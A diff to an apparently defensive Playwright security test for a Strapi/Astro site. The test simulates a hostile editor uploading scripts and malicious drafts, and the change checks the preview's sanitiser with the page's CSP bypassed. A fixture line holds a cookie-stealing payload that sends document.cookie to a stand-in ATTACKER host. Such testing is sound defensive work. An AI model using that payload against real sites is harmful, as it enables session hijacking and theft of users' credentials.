@@ -60,12 +60,7 @@ async function watch(page: Page) {
   return attempts;
 }
 
-/**
- * `parsedBy`: the preview's own script, whose sanitiser reads the draft in an inert document: Chrome
- * checks the handlers it meets there against the page's policy (script-src-attr) before DOMPurify
- * drops them. Those reports are the only ones allowed, and only from that script.
- */
-async function expectNothingRan(page: Page, attempts: string[], parsedBy?: RegExp) {
+async function expectNothingRan(page: Page, attempts: string[]) {
   const article = page.getByRole('article');
   await expect(article.getByText('Une nouvelle ordinaire.')).toBeVisible();
   await expect(article.getByRole('img', { name: 'Le plan de la brocante' })).toBeVisible();
@@ -78,13 +73,15 @@ async function expectNothingRan(page: Page, attempts: string[], parsedBy?: RegEx
   await page.waitForTimeout(500);
   expect(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned)).toBeUndefined();
   const violations = await page.evaluate(() => (window as unknown as { violations?: string[] }).violations ?? []);
-  expect(
-    violations.filter((violation) => !(parsedBy && /^script-src-attr inline /.test(violation) && parsedBy.test(violation))),
-  ).toEqual([]);
+  expect(violations).toEqual([]);
   expect(attempts).toEqual([]);
 }
 
-test('a hostile editor: the media library refuses scripts, pages and SVG; posts lose every script', async ({ page, request }) => {
+test('a hostile editor: the media library refuses scripts, pages and SVG; posts lose every script', async ({
+  browser,
+  page,
+  request,
+}) => {
   test.setTimeout(150_000);
   for (const [name, mimeType, content] of [
     ['x.js', 'text/javascript', `fetch('${ATTACKER}/?' + document.cookie)`],
@@ -115,10 +112,15 @@ test('a hostile editor: the media library refuses scripts, pages and SVG; posts 
     `${E2E_STRAPI_URL}/content-manager/preview/url/api::post.post?documentId=${documentId}&status=draft`,
     { headers },
   );
-  const previewAttempts = await watch(page);
-  await page.goto((await address.json()).data.url);
-  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Une nouvelle piégée');
-  await expectNothingRan(page, previewAttempts, /\/_astro\/apercu\.astro_astro_type_script[\w.-]*\.js$/);
+  // With the page's policy switched off: the sanitiser alone keeps the draft from running anything. (With
+  // it on, Chrome reports the handlers the sanitiser parses and drops, though none of them could ever run.)
+  const unprotected = await browser.newContext({ bypassCSP: true });
+  const preview = await unprotected.newPage();
+  const previewAttempts = await watch(preview);
+  await preview.goto((await address.json()).data.url);
+  await expect(preview.getByRole('heading', { level: 1 })).toHaveText('Une nouvelle piégée');
+  await expectNothingRan(preview, previewAttempts);
+  await unprotected.close();
 
   // Published: the site is rebuilt with it.
   const published = await request.post(
